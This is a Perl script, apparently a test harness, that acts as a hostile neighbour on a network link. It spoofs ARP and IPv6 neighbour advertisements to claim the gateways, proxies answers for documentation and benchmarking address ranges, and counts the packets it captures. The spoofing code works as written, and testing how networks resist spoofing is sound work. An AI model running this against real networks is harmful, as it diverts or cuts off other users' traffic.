# neighbour.pl LINK GATEWAY GATEWAY6: a hostile neighbour. It says again and again that the gateways are its own (ARP and NA
# spoofing), answers whoever asks for an address beyond LINK's subnets (proxy ARP and NDP), and prints how many packets
# of 198.18.0.0/15, 2001:db8::/32 and 4000::/16 it was sent for that.
use Socket qw(inet_pton inet_ntop AF_INET AF_INET6);
my ($link, $gateway, $gateway6) = ($ARGV[0], inet_pton(AF_INET, $ARGV[1]), inet_pton(AF_INET6, $ARGV[2]));
$| = 1;
socket my $socket, 17, 3, unpack 'S', pack 'n', 3 or exit 3;
my $request = pack 'a16x24', $link;
ioctl $socket, 0x8933, $request or exit 4; # SIOCGIFINDEX
my $index = unpack 'x16l', $request;
ioctl $socket, 0x8927, $request or exit 5; # SIOCGIFHWADDR
my $own = substr $request, 18, 6;
bind $socket, pack 'SnlSCCa8', 17, 3, $index, 0, 0, 0, '' or exit 6;
my ($all, $all6, $allNodes) = ("\xff" x 6, "\x33\x33\0\0\0\1", inet_pton AF_INET6, 'ff02::1');

sub sent { send $socket, $_[0] . $own . $_[1], 0, pack 'SnlSCCa8', 17, 0, $index, 0, 0, 6, $_[0] }

# It is at this neighbour's, says an answer to whoever asked.
sub resolved { my ($address, $to, $asker) = @_; sent($to, pack 'nnnCCna6a4a6a4', 0x0806, 1, 0x0800, 6, 4, 2, $own, $address, $to, $asker) }

# RFC 4861, section 4.4, with the flags S (to who asked) and O.
sub resolved6 {
    my ($address, $to, $asker) = @_;
    my $flags = $asker eq $allNodes ? 0x20 : 0x60;
    my $message = pack('CCnCx3', 136, 0, 0, $flags) . $address . pack('CCa6', 2, 1, $own);
    my $sum = 0;
    $sum += $_ for unpack 'n*', $address . $asker . pack('NN', length $message, 58) . $message;
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    substr($message, 2, 2) = pack 'n', ~$sum & 0xffff;
    sent($to, pack('nNnCC', 0x86dd, 0x60000000, length $message, 58, 255) . $address . $asker . $message);
}

my ($last, %taken) = 0;
for (;;) {
    if ($last != time) {
        resolved($gateway, $all, $gateway);
        resolved6($gateway6, $all6, $allNodes);
        print join(' ', 'taken:', map "$_=$taken{$_}", sort keys %taken), "\n";
        $last = time;
    }
    vec(my $readable = '', fileno $socket, 1) = 1;
    select $readable, undef, undef, 0.2 or next;
    recv $socket, my $frame, 2048, 0;
    my ($to, $from, $type) = unpack 'a6a6n', $frame;
    next if $from eq $own;
    if ($type == 0x0806) {
        my ($operation, $asker, $wanted) = unpack 'x20nx6a4x6a4', $frame;
        resolved($wanted, $from, $asker) if $operation == 1 && ($wanted eq $gateway || $wanted =~ /^\xc6[\x12\x13]/);
    } elsif ($type == 0x86dd && ord(substr $frame, 20, 1) == 58 && ord(substr $frame, 54, 1) == 135) {
        my ($asker, $wanted) = unpack 'x22a16x24a16', $frame;
        resolved6($wanted, $from, $asker) if $wanted eq $gateway6 || $wanted =~ /^(?:\x20\x01\x0d\xb8|\x40\0)/;
    } elsif ($to eq $own && $type == 0x0800) {
        my $destination = substr $frame, 30, 4;
        $taken{inet_ntop(AF_INET, $destination)}++ if $destination =~ /^\xc6[\x12\x13]/;
    } elsif ($to eq $own && $type == 0x86dd) {
        my $destination = substr $frame, 38, 16;
        $taken{inet_ntop(AF_INET6, $destination)}++ if $destination =~ /^(?:\x20\x01\x0d\xb8|\x40\0)/;
    }
}
